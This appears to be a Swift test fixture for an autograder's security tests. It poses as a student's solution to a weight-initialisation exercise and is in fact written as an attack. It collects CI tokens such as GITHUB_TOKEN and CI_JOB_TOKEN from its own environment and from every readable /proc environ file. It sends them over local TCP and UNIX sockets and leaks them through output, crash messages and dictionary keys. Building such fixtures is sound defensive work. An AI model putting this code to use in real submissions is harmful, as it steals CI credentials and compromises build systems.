// Attack: steal the CI platform's tokens. It reads GITHUB_TOKEN and CI_JOB_TOKEN (and every variable
// naming a token) from its environment and from every process's /proc/<pid>/environ it can read, and
// sends them away: over TCP to 127.0.0.1 and ::1 port 47811 and over the abstract UNIX socket
// "grader-attack-exfiltration" (where the test listens), printed on standard output and standard error,
// in a crash message, and as the name of an extra key of a returned dictionary, which a failure message
// names.
import Assignments
import Foundation
import NumericCore
#if canImport(Glibc)
import Glibc
#endif

/// Every token found, as `NAME=value` separated by `;`, once per worker process.
let secrets: String = {
    var found: [String] = []
    for name in ["GITHUB_TOKEN", "CI_JOB_TOKEN"] {
        found.append("\(name)=\(getenv(name).map { String(cString: $0) } ?? "")")
    }
    for (name, value) in ProcessInfo.processInfo.environment where name.contains("TOKEN") {
        found.append("\(name)=\(value)")
    }
    var files = ["/proc/\(getppid())/environ", "/proc/1/environ"]
    for entry in (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? [] where Int(entry) != nil {
        files.append("/proc/\(entry)/environ")
    }
    for file in files {
        guard let data = FileManager.default.contents(atPath: file) else { continue }
        for variable in String(decoding: data, as: UTF8.self).split(separator: "\0") where variable.contains("TOKEN=") {
            found.append(String(variable))
        }
    }
    return Array(Set(found)).sorted().joined(separator: ";")
}()

/// What sending gave, once per worker process.
let sent: String = {
    let message = Array("attack ran: tokens \(secrets)\n".utf8)
    var results: [String] = []
    // TCP over IPv4.
    var address4 = sockaddr_in()
    address4.sin_family = sa_family_t(AF_INET)
    address4.sin_port = in_port_t(47811).bigEndian
    address4.sin_addr.s_addr = inet_addr("127.0.0.1")
    results.append("tcp4: " + deliver(family: AF_INET, type: Int32(SOCK_STREAM.rawValue), address: &address4, length: MemoryLayout<sockaddr_in>.size, message))
    // TCP over IPv6.
    var address6 = sockaddr_in6()
    address6.sin6_family = sa_family_t(AF_INET6)
    address6.sin6_port = in_port_t(47811).bigEndian
    _ = inet_pton(AF_INET6, "::1", &address6.sin6_addr)
    results.append("tcp6: " + deliver(family: AF_INET6, type: Int32(SOCK_STREAM.rawValue), address: &address6, length: MemoryLayout<sockaddr_in6>.size, message))
    // An abstract UNIX socket: a name that starts with NUL.
    var local = sockaddr_un()
    local.sun_family = sa_family_t(AF_UNIX)
    let name = Array("\0grader-attack-exfiltration".utf8)
    withUnsafeMutableBytes(of: &local.sun_path) { path in for (i, byte) in name.enumerated() { path[i] = byte } }
    let length = MemoryLayout<sa_family_t>.size + name.count
    results.append("unix: " + deliver(family: AF_UNIX, type: Int32(SOCK_STREAM.rawValue), address: &local, length: length, message))
    return results.joined(separator: ", ")
}()

func deliver<Address>(family: Int32, type: Int32, address: inout Address, length: Int, _ message: [UInt8]) -> String {
    let descriptor = socket(family, type, 0)
    guard descriptor >= 0 else { return "socket: \(String(cString: strerror(errno)))" }
    defer { close(descriptor) }
    let connected = withUnsafePointer(to: &address) {
        $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(descriptor, $0, socklen_t(length)) }
    }
    guard connected == 0 else { return "connect: \(String(cString: strerror(errno)))" }
    let written = message.withUnsafeBytes { write(descriptor, $0.baseAddress, $0.count) }
    return "sent \(written) bytes"
}

func leak() -> String {
    let text = "attack ran: tokens [\(secrets)] sent: \(sent)"
    print(text)
    fputs(text + "\n", stderr)
    return text
}

struct StudentInitializers: InitializersExercise {
    func initializeParametersZeros(layersDims: [Int]) -> Parameters {
        _ = leak()
        var parameters = CorrectInitializers().initializeParametersZeros(layersDims: layersDims)
        parameters["W1 \(secrets)"] = Matrix.zeros(1, 1)  // an extra key, named by the failure message
        return parameters
    }

    func initializeParametersRandom(layersDims: [Int]) -> Parameters {
        fatalError(leak())  // the crash message
    }

    func initializeParametersHe(layersDims: [Int]) -> Parameters {
        _ = leak()
        var parameters = CorrectInitializers().initializeParametersHe(layersDims: layersDims)
        parameters["b1"] = nil  // a missing key: the case fails and its output is shown
        return parameters
    }
}
